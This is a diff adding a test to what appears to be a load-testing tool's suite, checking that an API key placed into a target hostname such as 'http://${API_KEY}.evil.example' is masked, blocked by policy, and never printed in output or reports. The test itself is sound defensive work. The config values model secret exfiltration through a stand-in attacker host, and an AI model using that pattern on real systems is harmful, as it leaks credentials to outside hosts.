@@ -182,3 +182,36 @@ test('no spelling of a secret gets out of the command line', async () => {
   const { closes } = JSON.parse(ran.stdout) as { closes: readonly { reason: string | null }[] }
   expect(closes.some(({ reason }) => reason?.includes('***'))).toBe(true)
 }, 60_000)
+
+test.each([
+  ['a host, which is not even looked up', 'policy', '{ url: "http://${API_KEY}.evil.example" }'],
+  ['a host that is granted', 'target', '{ url: "http://${API_KEY}.evil.invalid" }'],
+  [
+    'the build that is expected',
+    'target',
+    '{ url: "http://127.0.0.1:PORT", version: { url: "${targets.api}/ok" }, expect: "${API_KEY}" }',
+  ],
+])('a secret that is made %s stays one', async (made, outcome, target) => {
+  const secret = 'cAn4ryHost77'
+  writeFileSync(
+    join(workspace, 'host.yaml'),
+    `version: 1
+name: host
+targets: { api: ${target.replace('PORT', String(portOf(service)))} }
+scenarios:
+  rest:
+    rest: { steps: [{ request: { method: GET, url: "\${targets.api}/x" }, name: x }] }
+    load: { executor: constant-vus, vus: 1, duration: 1s }
+`,
+  )
+  const out = join(workspace, `host-${made.replaceAll(/\W+/g, '-')}`)
+  const grant = `http://${secret.toLowerCase()}.evil.invalid`
+  const grants = made.endsWith('granted') ? ['--allow-target', grant] : []
+  const argv = ['run', 'host.yaml', '--engine', 'embedded', '--out', out, ...grants]
+  const env = { API_KEY: secret, CI: 'true' }
+  const ran = await socketgate(argv, { cwd: workspace, env })
+  const told = [ran.stdout, ran.stderr, ...textsBelow(out)].join('\n')
+  expect(told).toContain(`"outcome": "${outcome}"`)
+  expect(told).toMatch(/\*\*\*|(&#42;){3}/)
+  expect(told.toLowerCase()).not.toContain(secret.toLowerCase())
+})
